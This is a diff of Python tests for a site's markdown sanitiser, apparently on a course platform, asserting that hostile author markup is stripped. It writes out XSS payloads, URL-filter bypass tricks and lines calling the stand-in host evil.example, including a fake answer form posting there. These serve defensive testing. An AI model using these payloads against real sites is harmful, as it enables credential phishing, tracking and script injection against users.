@@ -111,3 +111,143 @@ def test_concept_page_body_is_sanitised(topic):
         topic=topic, slug="x", title="X", body="<script>alert(1)</script>\n\nText"
     )
     assert "<script" not in markdown.render_concept_page(page)
+
+
+# --- what an author writes cannot take over a student's page ----------------------------------
+
+FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
+
+# Each payload with the markup that must not survive it.
+HOSTILE = {
+    "full-page overlay": (
+        '<div class="position-fixed top-0 start-0 w-100 h-100 bg-white z-3">Click</div>',
+        ["position-fixed", "w-100", "z-3"],
+    ),
+    "overlay on a span": ('<span class="modal-backdrop show fixed-top">x</span>', ["modal"]),
+    "a code class beside a layout class": (
+        '<span class="k position-fixed">x</span>',
+        ["position-fixed"],
+    ),
+    "style attribute": (
+        '<p style="position:fixed;inset:0">x</p><span style="background:url(//evil.example/t)">',
+        ["style=", "evil.example"],
+    ),
+    "external image": ('<img src="https://evil.example/pixel.png" alt="x">', ["evil.example"]),
+    "scheme-relative image": ('<img src="//evil.example/pixel.png">', ["evil.example"]),
+    "backslash image": ('<img src="/\\evil.example/pixel.png">', ["evil.example"]),
+    "markdown image": ("![tracker](https://evil.example/pixel.png)", ["evil.example"]),
+    "srcset": ('<img src="/static/x.png" srcset="https://evil.example/2x.png 2x">', ["evil"]),
+    "data image": ('<img src="data:image/svg+xml;base64,PHN2Zz4=">', ["data:"]),
+    "picture source": (
+        '<picture><source srcset="https://evil.example/a.png"><img src="a.png"></picture>',
+        ["evil.example", "<source", "<picture"],
+    ),
+    "svg": (
+        '<svg><image href="https://evil.example/a.png"/><script>alert(1)</script></svg>',
+        [
+            "<svg",
+            "evil.example",
+            "<script",
+        ],
+    ),
+    "iframe": ('<iframe src="https://evil.example/"></iframe>', ["<iframe", "evil.example"]),
+    "object and embed": (
+        '<object data="x.swf"></object><embed src="x.swf">',
+        ["<object", "<embed"],
+    ),
+    "event handlers": (
+        '<div onclick="alert(1)" onmouseover="alert(2)">x</div>'
+        '<img src="a.png" onerror="alert(3)">',
+        ["onclick", "onmouseover", "onerror", "alert"],
+    ),
+    "javascript link": ('<a href="javascript:alert(1)">x</a>', ["javascript:"]),
+    "javascript link split by a tab": ('<a href="java&#9;script:alert(1)">x</a>', ["script:"]),
+    "form posing as the answer form": (
+        '<form action="https://evil.example/"><input name="answer_text"><button>Go</button></form>',
+        ["<form", "<input", "<button", "evil.example"],
+    ),
+    "ids clobbering the page's scripts": ('<div id="countdown">x</div>', ["id="]),
+    "style and link elements": (
+        '<style>body{display:none}</style><link rel="stylesheet" href="//evil.example/a.css">',
+        ["<style", "<link", "display:none", "evil.example"],
+    ),
+    "meta refresh": (
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+        [
+            "<meta",
+            "evil.example",
+        ],
+    ),
+}
+
+
+@pytest.mark.parametrize("payload, forbidden", HOSTILE.values(), ids=HOSTILE.keys())
+def test_hostile_markup_is_neutralised(payload, forbidden):
+    html = markdown.render_markdown(payload)
+    for text in forbidden:
+        assert text not in html, f"{text!r} survived: {html}"
+
+
+def test_a_same_site_image_stays():
+    html = markdown.render_markdown('![A diagram](/static/quizzes/x.png "t")\n\n<img src="y.png">')
+    assert '<img alt="A diagram" src="/static/quizzes/x.png"' in html
+    assert '<img src="y.png">' in html
+
+
+def test_table_alignment_survives_as_an_attribute():
+    html = markdown.render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |\n")
+    assert '<th align="center">a</th>' in html and '<td align="right">2</td>' in html
+
+
+@pytest.mark.parametrize(
+    "url, same_origin",
+    [
+        ("/static/a.png", True),
+        ("a.png", True),
+        ("../a.png", True),
+        ("https://evil.example/a.png", False),
+        ("HTTP://evil.example/a.png", False),
+        ("//evil.example/a.png", False),
+        ("/\\evil.example/a.png", False),
+        ("\\\\evil.example/a.png", False),
+        (" \x01//evil.example/a.png", False),
+        ("/\t/evil.example/a.png", False),
+        ("https:evil.example", False),
+        ("data:image/png;base64,AA", False),
+    ],
+)
+def test_same_origin_path(url, same_origin):
+    assert markdown.is_same_origin_path(url) is same_origin
+
+
+def site_markdown_texts() -> list[str]:
+    """Every string of the course's content files: prompts, explanations, pages, summaries."""
+    import tomllib
+
+    texts: list[str] = []
+
+    def walk(value):
+        if isinstance(value, str):
+            texts.append(value)
+        elif isinstance(value, dict):
+            for item in value.values():
+                walk(item)
+        elif isinstance(value, list):
+            for item in value:
+                walk(item)
+
+    for path in sorted(FIXTURES.rglob("*.toml")):
+        walk(tomllib.loads(path.read_text(encoding="utf-8")))
+    return texts
+
+
+def test_every_class_the_sites_own_markdown_produces_survives():
+    """The allow-list is complete: the course's content, rendered, keeps all its classes."""
+    import re
+
+    texts = site_markdown_texts()
+    texts.append("```python hl_lines='1'\nx = 1\n```\n```pycon\n>>> 1\n1\n```\n```text\nx\n```")
+    classes = re.compile(r'class="([^"]*)"')
+    for text in texts:
+        raw = markdown._markdown_to_html(text)
+        assert classes.findall(markdown.sanitise(raw)) == classes.findall(raw), text[:80]
